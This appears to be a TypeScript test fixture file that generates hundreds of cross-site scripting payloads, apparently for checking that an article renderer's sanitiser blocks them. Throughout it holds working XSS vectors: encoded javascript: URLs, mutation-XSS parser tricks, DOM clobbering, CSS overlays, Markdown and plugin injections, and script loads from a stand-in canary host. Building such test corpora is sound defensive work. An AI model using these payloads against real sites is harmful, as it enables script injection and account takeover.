/** An article that tries to do something in a reader's browser. */
export interface Payload {
  /** Its family and number. */
  id: string;
  content: string;
  title?: string;
  cover_image?: string;
}

/** The origin that payloads send requests to. Its script calls `alert`. */
export const canary = 'https://canary.example';

const run = 'alert(1)';
const svgFile = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;
const page = `<script>parent.${run}</script><script>${run}</script>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const words = (list: string) => list.trim().split(/\s+/);
/** Splits a list of HTML at spaces: `·` is a space, and `@` what is inserted. */
const htmlWith = (inserted: string) => (list: string) =>
  words(list).map((html) => html.replaceAll('·', ' ').replaceAll('@', inserted));
const entities = (text: string, write: (code: number) => string) =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('');

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT >`,
  `<ScRiPt type="text/javascript">${run}</sCrIpT>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script/x>`,
  `<script src="${canary}/x.js"></script>`,
  `<script src=//canary.example/x.js></script>`,
  `<script type="module">${run}</script>`,
  `<script type="module">import "${canary}/x.js"</script>`,
  `<script type="importmap">{"imports":{"x":"${canary}/x.js"}}</script><script type="module">import "x"</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src="data:;base64,${base64(run)}"></script>`,
  `<script><!--\n${run}</script>`,
  `<p><script>${run}</script></p>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script>confirm(1)`,
  `<script for=window event=onload>${run}</script>`,
  `<script language=vbscript>alert 1</script><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${canary}/x.js"/></svg>`,
  `<svg><script xlink:href="data:,${run}"/></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<table><script>${run}</script></table>`,
  `<select><script>${run}</script></select>`,
  `<ruby><rt><script>${run}</script></rt></ruby>`,
];

/** Elements that load or begin something by themselves, with a handler of the event. */
const loading = [
  ...words(`
  img:error img:load video:error video:loadstart audio:error image:error object:error embed:load body:load
  body:pageshow body:focus iframe:load link:load script:error track:error frameset:load isindex:error svg:load
  style:load math:load`).flatMap((pair, index) => {
    const [tag, event] = pair.split(':');
    // Sources of different kinds, and the ways in which HTML separates and quotes attributes.
    const source = ['x', `${canary}/x.png`, 'data:,'].at(index % 3);
    const space = [' ', '/', '\n', '\t', '\f'].at(index % 5);
    const handler = [run, `"${run}"`, `'${run}'`, `${entities(run, (code) => `&#${code};`)}`].at(
      index % 4,
    );
    return [
      `<${tag} src=x data=x on${event}=${run}>`,
      `<${tag?.toUpperCase()}${space}src="${source}"${space}data="${source}"${space}href="${canary}/x.css"${space}rel=stylesheet${space}ON${event}${space === '/' ? '' : space}=${handler} >`,
    ];
  }),
  ...words(`
  animate:begin set:begin image:error use:load style:load`).map((pair) => {
    const [tag, event] = pair.split(':');
    return `<svg><${tag} href=x attributeName=x dur=1s on${event}=${run}></${tag}></svg>`;
  }),
  ...words('input a xss video').map(
    (tag) => `<${tag} href=# contenteditable autofocus tabindex=0 onfocus=${run}>x</${tag}>`,
  ),
  `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">x</b>`,
  ...htmlWith(run)(`
  <img·src=x·onerror=@// <img·"""><img·src=x·onerror=@>">
  <img·src=x·id=x·name=y·title=z·alt=w·onerror=@·onerror=none> <img·srcset=x·onerror=@>
  <picture><source·srcset=x><img·onerror=@></picture> <video><source·onerror=@></video>
  <video·controls><track·default·src=x·onerror=@></video> <input·type=image·src=x·onerror=@>
  <b·style="animation:x·1s"·onanimationend=@>x</b> <details·open·ontoggle=@>x</details>
  <marquee·onstart=@·loop=1·width=0·onfinish=@>x</marquee>
  <math·onload=@><mtext><img·src=x·onerror=@></mtext></math>`),
];

const events =
  'click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave pointerdown ' +
  'pointerup pointerover pointerenter pointermove focus focusin blur keydown keyup contextmenu wheel ' +
  'dragstart copy cut paste beforecopy auxclick touchstart';
const handlers = events
  .split(' ')
  .map((name, index) =>
    [
      `<b tabindex="0" on${name}="${run}">x</b>`,
      `<a href="#x" ON${name.toUpperCase()}='${run}'>x</a>`,
      `<p tabindex=0 on${name}\n=\n${run}>x</p>`,
    ].at(index % 3),
  );
const interactive = [
  ...['summary', 'label', 'button', 'svg width=9 height=9', 'table><tr><td', 'video controls'].map(
    (tag) => `<${tag} onclick=${run}>x`,
  ),
  ...['- [x] ', '| a |\n| - |\n| ', '# ', 'a[^1]\n\n[^1]: '].map(
    (start) => `${start}<b onclick=${run}>x</b>`,
  ),
  `<body onscroll=${run}>${'<br>'.repeat(100)}x`,
  ...htmlWith(run)(`
  <details·ontoggle=@><summary>x</summary></details> <input·type=checkbox·onchange=@>
  <form·onsubmit=@><button>x</button></form>
  <form·oninvalid=@><input·required·oninvalid=@><button>x</button></form>
  <button·popovertarget=x>x</button><b·id=x·popover·onbeforetoggle=@>y</b>
  <dialog·open·onclose=@><form·method=dialog><button>x</button></form></dialog>
  <body·onhashchange=@><a·href="#h">x</a> <body·onafterprint=@>
  <map·name=m><area·href=#·onclick=@·shape=default></map><img·usemap=#m·src=x>`),
];

const code = `javascript:${run}`;
const bare = [
  code,
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript:alert(1)//http://a.example/',
  'javascript://a.example/%0aalert(1)',
  'javascript:%61lert(1)',
  'javascript:void(alert(1))',
  `javascript:'<script>${run}</script>'`,
];
const encoded = [
  ...bare,
  entities(code, (value) => `&#${value};`),
  entities(code, (value) => `&#x${value.toString(16)};`),
  entities(code, (value) => `&#X${value.toString(16).toUpperCase()};`),
  entities(code, (value) => `&#${String(value).padStart(7, '0')};`),
  entities(code, (value) => `&#${value}`),
  ...words(`
  javascript&colon;alert(1) javascript&#58;alert(1) javascript&#x3a;alert&lpar;1&rpar; &#106;avascript:alert(1)
  java&Tab;script:alert(1) java&NewLine;script:alert(1) java&#9;script:alert(1) java&#10;script:alert(1)
  java&#13;script:alert(1) java&#x0D;&#x0A;script&#9;:alert(1) j&#9;a&#9;v&#9;a&#9;s&#9;c&#9;r&#9;i&#9;p&#9;t:alert(1)
  &#1;javascript:alert(1) &#14;javascript:alert(1) &#x1f;&#x20;javascript:alert(1)`),
  ...['\t', '\n', '\r'].map((sign) => `java${sign}script:alert(1)`),
  ...['\u0001', '\u001b', '   ', '\n\t', ' &#14;  '].map((sign) => sign + code),
  ...['\t', '\n'].map((sign) => `javascript${sign}:alert(1)`),
];
const odd = [
  ...['\u00a0', '\ufeff', '\u200b', '\u2028'].map((sign) => sign + code),
  ...['\u0000', '&#0;', '\u00ad'].map((sign) => `java${sign}script:alert(1)`),
  ...words(`
  ｊavascript:alert(1) javaſcript:alert(1) javascript：alert(1) vbscript:msgbox(1) view-source:javascript:alert(1)
  blob:javascript:alert(1) filesystem:javascript:alert(1) about:blank#javascript:alert(1) data:,alert(1)
  data:text/html,<script>alert(1)</script> DATA:text/html,x da&#9;ta:text/html,x`),
  `data:text/html;base64,${base64(page)}`,
  'data:image/svg+xml,<svg onload=alert(1)>',
];
const urls = [
  ...[...encoded, ...odd].map((url) => `<a href="${url.replaceAll('"', '&quot;')}">x</a>`),
  ...encoded.slice(0, 20).map((url) => `<iframe src="${url.replaceAll('"', '&quot;')}"></iframe>`),
  ...encoded.slice(10, 20).map((url) => `<a target=_self HREF = ${url}>x</a>`),
];

const carriers = [
  ...[code, 'java&#10;script:alert(1)', '&#1;JavaScript:alert(1)'].flatMap((url) => [
    ...htmlWith(url)(`
  <a·href='@'·target=_blank>x</a> <a·xlink:href="@">x</a>
  <map·name=m><area·shape=default·href="@"></map><img·usemap=#m·src=x·width=9·height=9>
  <form·action="@"><button>x</button></form> <form·action="@"><input·type=submit></form>
  <form·id=f·action="@"></form><button·form=f>x</button> <form><button·formaction="@">x</button></form>
  <form><input·type=submit·formaction="@"></form> <form><input·type=image·src=x·formaction="@"></form>
  <object·data="@"></object> <embed·src="@"> <frameset><frame·src="@"></frameset>
  <svg·width=9·height=9><a·href="@"><rect·width=9·height=9·/></a></svg>
  <svg·width=9·height=9><a·xlink:href="@"><text·y=9>x</text></a></svg>
  <svg·width=9·height=9><a><animate·attributeName=href·values="@"·/><text·y=9>x</text></a></svg>
  <svg·width=9·height=9><a><set·attributeName=href·to="@"·/><text·y=9>x</text></a></svg> <math·href="@">x</math>
  <math><mi·xlink:href="@">x</mi></math> <meta·http-equiv=refresh·content="0;url=@">
  <base·href="@//"><a·href="/x">x</a> <img·src="@"> <img·srcset="@·1x"> <video·poster="@"·src="@"></video>
  <table·background="@"><tr><td·background="@">x</td></tr></table> <blockquote·cite="@">x</blockquote>
  <link·rel=stylesheet·href="@"> <a·href=#·ping="@">x</a> <object><param·name=code·value="@"></object>
  <portal·src="@"></portal>`),
    `<a href=\`${url}\`>x</a>`,
  ]),
];

const documents = [
  `data:text/html,${page}`,
  `data:text/html;base64,${base64(page)}`,
  `data:image/svg+xml;base64,${base64(svgFile)}`,
  `${canary}/page.html`,
];
const frames = [
  ...documents.flatMap((address) => [
    `<iframe src="${address}"></iframe>`,
    `<object data="${address}"></object>`,
    `<object type="text/html" data=${address.replaceAll(' ', '%20')}></object>`,
    `<embed src="${address}">`,
  ]),
  `<iframe srcdoc="${page}"></iframe>`,
  `<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>`,
  `<iframe sandbox="allow-scripts" srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe name=x></iframe><a target=x href="${code}">x</a>`,
  `<embed type="image/svg+xml" src="${canary}/x.svg">`,
  `<fencedframe></fencedframe><iframe srcdoc="<svg onload=parent.alert(1)>">`,
];

const elsewhere = [
  `<meta http-equiv="refresh" content="0;url=data:text/html,${page}">`,
  ...words('stylesheet preload modulepreload prefetch').flatMap((rel) => [
    `<link rel=${rel} as=script href=${canary}/x.js>`,
    `<link rel="${rel}" as="style" href="${canary}/x.css">`,
  ]),
  ...[`@import '${canary}/x.css';`, `@import url(${canary}/x.css)`].flatMap((rule) => [
    `<style>${rule}</style>`,
    `<svg><style>${rule}</style></svg>`,
  ]),
  `<style>@font-face{font-family:x;src:url(${canary}/x.woff)}b{font-family:x}</style><b>x</b>`,
  ...htmlWith(canary)(`
  <meta·http-equiv="refresh"·content="0;url=@/"> <META·HTTP-EQUIV=refresh·CONTENT=0;@/>
  <base·href="@/"><a·href="x">x</a> <base·target=_blank><a·href=/>x</a>
  <form·action="@/"·method=post><button>x</button></form>
  <form·action="@/"·target=_blank><button>x</button></form>
  <button·formaction="@/"·form=f>x</button><form·id=f></form> <a·href=#·ping="@/">x</a>`),
];

const mutation = [
  ...htmlWith(`<img src=x onerror=${run}>`)(`
  <noscript><p·title="</noscript>@"></noscript> <noscript><style></noscript>@</style></noscript>
  <noscript><!--</noscript>@--></noscript> <noscript><textarea></noscript>@</textarea> <template>@</template>
  <template><template></template></template>@ <template·shadowrootmode=open>@</template>
  <style><!--</style>@--></style> <style></style/>@</style> <svg><style>@</style></svg>
  <svg></p><style><a·id="</style>@"> <svg><![CDATA[>@]]></svg> <svg><title>@</title></svg>
  <svg><desc>@</desc></svg> <svg><foreignObject>@</foreignObject></svg>
  <svg><desc><noscript></desc></noscript>@</svg> <math><mtext><table><mglyph><style><math>@
  <math><annotation-xml·encoding="text/html">@</annotation-xml></math> <math><mi><style>@</style></mi></math>
  <svg><annotation-xml><foreignobject><style><!--</style><p·id="-->@"> <form><div></form><form>@
  <form·id=a><form·id=b><input·name=parentNode>@</form></form> <!-->@--> <!--->@--> <!--·--!>@·-->
  <!--·x·-->@<!--·--> <![CDATA[@]]> <![CDATA[>@]]> <?xml·version="1.0"?>@ <?·>@·?>
  <!DOCTYPE·html·[<!ENTITY·x·"y">]>@ <!ELEMENT·a>@ </·>@ </p/>@ <xmp><p·title="</xmp>@"></xmp>
  <noembed><p·title="</noembed>@"></noembed> <noframes><p·title="</noframes>@"></noframes>
  <iframe><p·title="</iframe>@"></iframe> <textarea><p·title="</textarea>@"></textarea>
  <title><p·title="</title>@"></title> <select><template>@</template></select> <select><keygen>@</select>
  <select><style></select>@</style> <table><tr><td><svg><desc><table>@
  <frameset><noframes></noframes></frameset>@ <plaintext>@ <a·title="</a>@">x</a> <p·class='language-">@'>x</p>
  <p·style='color:">@'>x</p> <p·lang="-->@">x</p> <p·is=x-y><x-y>@</x-y></p> <dialog·open>@</dialog>
  <video><noscript></video>@</noscript> <button><button>@`),
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<svg><p><style><a id="</style><img src=1 onerror=${run}>"></p></svg>`,
  `<svg><foreignobject><iframe srcdoc="${page}"></iframe></foreignobject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  `<math><annotation-xml encoding=application/xhtml+xml><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${run}>"></style></h1>`,
  `<svg><script>&lt;/script>&lt;img src=x onerror=${run}></script></svg><img src onerror=${run}>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]--><img src onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<p title="&lt;img src=x onerror=${run}&gt;">&lt;img src=x onerror=${run}&gt;</p>`,
  `<p title="\`<img src=x onerror=${run}>">x</p>`,
  `<table><a href="${code}">x<tr><td><a href="${code}">x</table>`,
  `<a><table><a href="${code}">x</a></table></a>`,
  `<b <script>${run}</script>0`,
  `<img alt="</p><script>${run}</script>" src=x>`,
  `<img alt="&quot; onerror=${run} x=&quot;" src=x>`,
  `<code>&lt;script&gt;${run}&lt;/script&gt;</code>`,
  `<p id="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
  `<img __ASTRO_IMAGE_='{"src":"javascript:alert(1)","onerror":"${run}"}'>`,
  `<img __ASTRO_IMAGE_='{"src":"x\\" onerror=${run} y=\\"","alt":"\\" onerror=${run} \\""}'>`,
  `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
];

const clobbering = [
  `<A ID="siteConfig" HREF="data:,${run}">x</A>`,
  ...'cookie body getElementById querySelector createElement forms currentScript head title scripts'
    .split(' ')
    .map((name, index) =>
      [
        `<img name=${name} src=x>`,
        `<form name="${name}"></form>`,
        `<embed NAME=${name}>`,
        `<iframe name=${name}></iframe>`,
        `<object id=${name}></object>`,
      ].at(index % 5),
    ),
  '<form><input name=attributes><input name=parentNode><input name=nodeName></form><img name=cookie>',
  '<form id=body name=body></form><img id=forms name=forms>',
  ...htmlWith(canary)(`
  <a·id=siteConfig·href="@/x.js">x</a> <a·id=siteConfig></a><a·id=siteConfig·name=url·href="@/x.js"></a>
  <a·name=siteConfig·href="@/x.js">x</a> <map><area·id=siteConfig·href="@/x.js"></map>
  <a·id="siteConfig"·data-footnote-ref·href="@/x.js">x</a>
  <sup><a·id=siteConfig·href="//canary.example/x.js">x</a></sup>`),
];

const styles = [
  'position:fixed;inset:0;z-index:99999;background:red',
  'POSITION: absolute; top:0; left:0; width:100vw; height:100vh; z-index: 9',
  'pos\\69tion:fixed;inset:0;background:red',
  'color:red;/*;*/position:/**/fixed;inset:0',
  'color:red}*{position:fixed',
  'margin-top:-5000px;height:6000px;position:relative',
  'transform:translateY(-500px) scale(99);position:relative',
  '--x:fixed;position:var(--x);inset:0;all:unset;position&#58;fixed',
  'float:left;margin-top:-900px;height:2000px;width:100%;position:relative',
  'box-shadow:0 0 0 9999px red;outline:9999px solid red;position:sticky;top:0',
].map((style) => `<div style="${style}"><a href="${canary}/covers">x</a></div>`);
const over = `position:absolute;inset:0;background:red`;
const nestedStyles = [
  `<div style="position:static"><a style="${over}" href="${canary}/covers">x</a></div>`,
  `<div style="position:relative;display:contents"><a style="${over}" href="${canary}/covers">x</a></div>`,
  `<p style="position:relative;position:static!important"><a style="${over}" href="${canary}/covers">x</a></p>`,
  `${'<span style="font-size:300%;line-height:0">'.repeat(8)}<a href="${canary}/covers">x</a>`,
  `${'<h1><div>'.repeat(8)}<a style="position:relative;top:-1em" href="${canary}/covers">x</a>`,
  `${'<big>'.repeat(20)}<a style="margin-left:-2em" href="${canary}/covers">x</a>`,
];
const overlays = [
  ...styles,
  ...nestedStyles,
  `<a class="cover footnotes" href="${canary}/">x</a>`,
  `<p style="background-color:url(${canary}/x.css)">x</p><link rel=stylesheet href=${canary}/x.css>`,
  `<p style="-moz-binding:url(${canary}/x.xml);behavior:url(x)">x</p><svg onload=${run}>`,
  ...htmlWith(run)(`
  <style>.x{position:fixed;inset:0}</style><a·class=x·href=/>x</a> <style>*{display:none!important}</style>
  <div·class="cover">x</div> <span·class="line·cover">x</span>
  <div·id=cover>x</div><style>#cover{position:fixed;inset:0}</style>
  <dialog·open·style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>
  <p·style="color:expression(@)">x</p><svg·onload=@>
  <p·style="background-image:url('javascript:@')">x</p><svg·onload=@>`),
];

const unclosed = [
  ...words(`
  textarea title style script template noembed noframes iframe xmp plaintext noscript select div table ul b a button
  form details dialog svg math ruby object marquee audio video`).map(
    (name) => `<${name}>\n\n*swallowed*`,
  ),
  ...[
    '<!-- ',
    '<!--',
    '<![CDATA[ ',
    '<? ',
    '<!A ',
    '<img alt="',
    "<a href='",
    '<div title="\n\n',
  ].map((start) => `${start}swallowed`),
  ...htmlWith('')(`
  <b·hidden> <div·hidden>·swallowed <table><tr><td> <table><caption> <svg><foreignObject><textarea>
  <math><mtext><textarea> <select><option> </article></main><div>escaped
  </div></article></main></body></html><b>escaped </p></article><plaintext> <body·hidden><html·hidden>
  <details><summary>x`),
].map((html) => `text\n\n${html}`);

const markdown = [
  ...bare.map((url) => `[x](${url.includes('<') || url.includes("'") ? `<${url}>` : url})`),
  ...words(
    'javascript: JavaScript: javascript&colon; java&Tab;script: &#106;avascript: &#x1;javascript: java&#10;script:',
  ).flatMap((scheme) => [`[x](<${scheme}${run}>)`, `[x](< ${scheme}${run}>)`, `<${scheme}${run}>`]),
  `[x][1]\n\n[1]: javascript:${run}`,
  `[x]\n\n[x]: <javascript:${run}> "title"`,
  `[x][]\n\n[X]:\n  JAVASCRIPT:${run}`,
  `[![x](x)](javascript:${run})`,
  `![x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `![x](x 'a" onerror="${run}')`,
  `![" onerror="${run}](x)`,
  `![x]\n\n[x]: x"onerror="${run}`,
  `[x](x "\\" onmouseover=\\"${run}")`,
  `[x](https://a.example/"onclick="${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](data:text/html;base64,${base64(page)})`,
  `a[^"><img src=x onerror=${run}>]\n\n[^"><img src=x onerror=${run}>]: b`,
  `a[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  `a[^1]\n\n[^1]: [x](javascript:${run})`,
  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
  `\`\`\`js "><img src=x onerror=${run}>\nx\n\`\`\``,
  `~~~<script>${run}</script>\nx\n~~~`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`\`\`html\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
  `# <img src=x onerror=${run}>`,
  `# "><script>${run}</script>`,
  `## [x](javascript:${run})`,
  `# x {#"onclick="${run}}`,
  `| <img src=x onerror=${run}> |\n| - |\n| [x](javascript:${run}) |`,
  `*a <b\n onmouseover=${run}>x</b>*`,
  `<div>\n\n[x](javascript:${run})\n\n</div>`,
  `<details><summary>\n\n<img src=x onerror=${run}>\n\n</summary></details>`,
  `<a href="javascript\n:${run}">*x*</a>`,
  `\\<script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;<script>${run}</script>`,
  `http://a.example/"onclick="${run}`,
  `www.a.example/"><img/src=x/onerror=${run}>`,
  `a@b.example"onclick="${run}`,
  `---\ntitle: <script>${run}</script>\n---\n<script>${run}</script>`,
  `<!-- \`\`\` --><img src=x onerror=${run}>\n\n\`\`\``,
  `import x from 'x'\n\n{alert(1)}\n\n<img src={x} onerror=${run}>`,
  `:::note{onclick="${run}"}\nx\n:::\n\n<svg onload=${run}>`,
];

const fields = [
  ...[
    `<script>${run}</script>`,
    `"><img src=x onerror=${run}>`,
    `'><svg onload=${run}>`,
    `</title><script>${run}</script>`,
    `</h1></main><img src=x onerror=${run}>`,
    `\${alert(1)}{alert(1)}`,
    `--><img src=x onerror=${run}>`,
    `<!--`,
    `&lt;img src=x onerror=${run}&gt;`,
    `javascript:${run}`,
  ].map((title) => ({ title, content: 'Text.' })),
  ...[
    code,
    'JAVA\tSCRIPT:alert(1)',
    '\u0001javascript:alert(1)',
    `data:text/html,${page}`,
    `data:image/svg+xml,${svgFile}`,
    `x" onerror="${run}`,
    `${canary}/x.png" onload="${run}`,
    'blob:https://a.example/x',
    'vbscript:x',
  ].map((cover_image) => ({ cover_image, content: 'Text.' })),
  { title: `<img src=x onerror=${run}>`, content: `# <img src=x onerror=${run}>\n\nText.` },
  { title: 'T', content: `<p>&lt;img src=x onerror=${run}&gt;</p>` },
];

/** Markdown that plugins turn into elements, attributes or URLs. */
const plugins = [
  `:script[${run}]`,
  `::script{src="${canary}/x.js"}`,
  `:::script\n${run}\n:::`,
  `:::style\n*{display:none}\n:::`,
  `::iframe{src="${canary}/page.html"}`,
  `::iframe{srcdoc="<script>${run}</script>"}`,
  `::object{data="${canary}/page.html"}`,
  `::embed{src="${canary}/page.html"}`,
  `:img{src=x onerror="${run}"}`,
  `:a[x]{href="javascript:${run}"}`,
  `::base{href="${canary}/"}`,
  `::meta{http-equiv=refresh content="0;url=${canary}/page.html"}`,
  `::link{rel=stylesheet href="${canary}/x.css"}`,
  `:::div{style="position:fixed;inset:0;z-index:99"}\nover\n:::`,
  `:::div{.cover}\nover\n:::`,
  `:::form{action="javascript:${run}"}\n:button[x]\n:::`,
  `:::svg{onload="${run}"}\nx\n:::`,
  `:::template\n<b hidden>x\n:::`,
  `:::textarea\nx`,
  `:a[x]{id=siteConfig href="${canary}/x.js"}`,
  `:span[x]{id=siteConfig}`,
  `$\\href{javascript:${run}}{x}$`,
  `$\\url{javascript:${run}}$`,
  `$\\htmlId{siteConfig}{\\href{${canary}/x.js}{x}}$`,
  `$\\htmlStyle{position:fixed;inset:0;z-index:99}{x}$`,
  `$\\htmlClass{cover}{x}$`,
  `$\\htmlData{onclick=${run}}{x}$`,
  `$\\includegraphics{${canary}/x.svg}$`,
  `$\\rule{9999em}{9999em}$`,
  `$\\raisebox{999em}{x}$`,
  `$$\n\\kern{-9999em}\\rule{9999em}{9999em}\n$$`,
  `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  `\`\`\`html\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`\`\`js title="<img src=x onerror=${run}>"\nx\n\`\`\``,
  `\`\`\`js {1} "x" /<img src=x onerror=${run}>/\nx\n\`\`\``,
];

const families = {
  scripts,
  loading,
  handlers: [...handlers, ...interactive],
  urls,
  carriers,
  frames,
  elsewhere,
  mutation,
  clobbering,
  overlays,
  unclosed,
  markdown,
  plugins,
};

/** All payloads, with the id `family-number`. */
export const payloads: readonly Payload[] = [
  ...Object.entries(families).flatMap(([family, texts]) =>
    [...new Set(texts)].map((content, index) => ({
      id: `${family}-${index}`,
      content: content ?? '',
    })),
  ),
  ...fields.map((field, index) => ({ id: `fields-${index}`, ...field })),
];
